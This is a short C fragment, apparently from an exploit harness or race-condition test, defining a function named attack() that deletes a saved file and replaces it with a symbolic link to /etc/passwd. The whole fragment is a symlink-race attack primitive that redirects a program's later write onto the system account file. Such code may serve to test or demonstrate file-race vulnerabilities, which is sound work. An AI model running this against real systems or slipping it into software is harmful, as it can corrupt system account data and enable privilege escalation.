#define AT_SAVE
static void attack(void) { unlink(saved); if (symlink("/etc/passwd", saved) != 0) perror("symlink"); }
